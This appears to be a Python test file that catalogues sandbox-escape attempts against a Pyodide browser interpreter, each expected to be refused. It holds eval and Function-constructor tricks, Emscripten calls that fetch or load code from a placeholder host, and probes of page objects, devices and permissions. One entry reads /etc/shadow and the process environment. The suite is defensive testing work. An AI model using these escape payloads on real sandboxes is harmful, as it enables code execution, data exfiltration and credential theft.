"""Ways out of the interpreter into JavaScript, and from there to another realm or to the page."""

from tests.browser.attacks.attack import NO_EFFECT, Attack


def _program(name: str, text: str, expected: str = "refused") -> Attack:
    return Attack(name, "program", text, expected)


def _alone(name: str, text: str) -> Attack:
    return Attack(name, "program", text, "completed|failed|lost", alone=True)


_SAY = "fetch('@http@',{mode:'no-cors'});globalThis.said=1;1"
"""A script that would be seen from within and from without."""

EVAL = (
    _program("eval", f'return js.eval("{_SAY}")'),
    _program("indirect eval", f'return js.Reflect.apply(js.eval, None, l("{_SAY}"))'),
    _program("run_js", f'from pyodide.code import run_js\nreturn run_js("{_SAY}")'),
    _program("Function", f'return js.Function.new("{_SAY}")()'),
    _program("constructor of Object", f'return js.Object.constructor("{_SAY}")()'),
    _program("constructor of a constructor", f'return js.Math.max.constructor.constructor("{_SAY}")()'),
    _program("Reflect.construct", f'return js.Reflect.construct(js.Function, l("{_SAY}"))()'),
    _program(
        "AsyncFunction",
        f'return await js.Object.getPrototypeOf(pyodide_js.loadPackage).constructor("{_SAY}")()',
    ),
    _program(
        "constructor of an async function", f'return await pyodide_js.runPythonAsync.constructor("{_SAY}")()'
    ),
    _program(
        "GeneratorFunction",
        f"""
for holder in (pyodide_js._module, pyodide_js._api, pyodide_js.FS, js.globalThis):
    for name in dir(holder):
        thing = getattr(holder, name, None)
        if 'Generator' in str(getattr(getattr(thing, 'constructor', None), 'name', '')):
            return thing.constructor("{_SAY}")().next()
raise OSError('there is none')
""",
    ),
    *(
        _program(
            f"{name} of a string",
            f"""
js.{name}("{_SAY}", 0)
await asyncio.sleep(0.2)
return js.said
""",
        )
        for name in ("setTimeout", "setInterval")
    ),
    _program("importScripts of data", f'js.importScripts("data:text/javascript,{_SAY}"); return js.said'),
    _program(
        "importScripts of a blob",
        f"""
blob = js.Blob.new(l("{_SAY}"), o(type='text/javascript'))
js.importScripts(js.URL.createObjectURL(blob)); return js.said
""",
    ),
    _program(
        "module of a data address",
        f'return await pyodide_js._module.dynamicImport("data:text/javascript,{_SAY}")',
    ),
    _program("ShadowRealm", f'return js.ShadowRealm.new().evaluate("{_SAY}")'),
    _program(
        "policy of trusted types", f'return js.trustedTypes.createPolicy("x", o()).createScript("{_SAY}")'
    ),
)
"""A second script of the program's own choice."""

MEMORY = (
    _alone(
        "script of the interpreter",
        f'outcome = pyodide_js._module.ccall("emscripten_run_script", None, l("string"), l("{_SAY}"))',
    ),
    *(
        _alone(
            f"{function} by its symbol",
            f"""
import ctypes
function = getattr(ctypes.CDLL(None), '{function}')
function.restype = ctypes.c_int
result = function({arguments})
await asyncio.sleep(0.2)
outcome = result
""",
        )
        for function, arguments in (
            ("emscripten_run_script", "b\"fetch('@http@')\""),
            ("emscripten_run_script_int", "b\"fetch('@http@')\""),
            ("emscripten_async_run_script", "b\"fetch('@http@')\", 0"),
            ("emscripten_run_script_string", "b\"fetch('@http@')\""),
            ("emscripten_async_wget", "b'@http@', b'/got', None, None"),
            ("emscripten_wget", "b'@http@', b'/got'"),
            ("emscripten_fetch", "None, b'@http@'"),
            ("emscripten_websocket_new", "b'@ws@'"),
            ("emscripten_create_worker", "b'@http@'"),
            ("emscripten_async_load_script", "b'@http@', None, None"),
            ("emscripten_dlopen", "b'@http@', 2, None, None, None"),
        )
    ),
    _alone(
        "library from the network by ctypes",
        "import ctypes\noutcome = ctypes.CDLL('@http@')._name",
    ),
    _alone(
        "script in the side module's own tables",
        "outcome = pyodide_js._module.addFunction(js.Function.new('return 1'), 'i')",
    ),
    _alone(
        "script among the interpreter's constants",
        """
module = pyodide_js._module
names = [n for n in dir(module) if n.startswith('ASM_CONSTS') or n == 'runEmAsmFunction']
assert names, 'there are none'
outcome = module.ASM_CONSTS
""",
    ),
)
"""The interpreter's C functions and its memory, which may kill it."""

PAGE = (
    *(
        _program(f"{name} of the page", f"return js.{name}")
        for name in (
            "parent",
            "top",
            "window",
            "document",
            "frames",
            "opener",
            "frameElement",
            "localStorage",
            "sessionStorage",
            "history",
            "alert",
            "confirm",
            "prompt",
            "open",
            "showOpenFilePicker",
            "showSaveFilePicker",
            "DOMParser",
            "Document",
            "HTMLElement",
            "clients",
            "registration",
        )
    ),
    _program("message to the page", "return js.parent.postMessage('x', '*')"),
    _program(
        "way of a message past the supervisor", "js.postMessage(o(fenced='hello', supervisor='x'))", NO_EFFECT
    ),
    _program("end of the worker", "js.close(); return js.nothing_of_that_name"),
    *(
        _program(
            f"permission for {name}",
            f"answer = await js.navigator.permissions.query(o(name='{name}'))\nassert answer.state == 'granted'\nreturn answer.state",
        )
        for name in (
            "notifications",
            "geolocation",
            "camera",
            "microphone",
            "clipboard-read",
            "persistent-storage",
        )
    ),
    _program("question for notifications", "return await js.Notification.requestPermission()"),
    _program("USB", "return (await js.navigator.usb.getDevices()).length or js.nothing_of_that_name"),
    _program(
        "serial ports", "return (await js.navigator.serial.getPorts()).length or js.nothing_of_that_name"
    ),
    _program("HID", "return (await js.navigator.hid.getDevices()).length or js.nothing_of_that_name"),
    _program("clipboard", "return await js.navigator.clipboard.readText()"),
    _program("place", "return js.navigator.geolocation.getCurrentPosition"),
    _program("camera", "return await js.navigator.mediaDevices.getUserMedia(o(video=True))"),
    _program("badge of the app", "return await js.navigator.setAppBadge(3)", NO_EFFECT),
    _program("lock of the screen", "return await js.navigator.wakeLock.request('screen')"),
    _program(
        "files of the reader",
        "return open('/etc/shadow').read() + open('/home/pyodide/../../proc/self/environ').read()",
    ),
)
"""What belongs to a document."""

ESCAPES = (*EVAL, *PAGE)
